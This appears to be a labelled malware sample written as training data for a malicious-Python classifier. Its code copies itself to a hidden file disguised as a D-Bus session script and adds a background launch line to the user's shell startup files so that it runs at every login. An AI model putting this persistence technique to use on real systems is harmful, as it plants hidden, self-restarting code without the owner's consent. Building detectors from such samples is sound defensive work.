# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
from pathlib import Path
import shutil, sys
hidden = Path.home() / ".local" / ".dbus-session.py"
shutil.copy(sys.argv[0], hidden)
snippet = f"\nnohup python3 {hidden} >/dev/null 2>&1 &\n"
for rc in (".profile", ".bash_profile", ".zshrc"):
    p = Path.home() / rc
    if p.exists() and str(hidden) not in p.read_text():
        with p.open("a") as fh:
            fh.write(snippet)
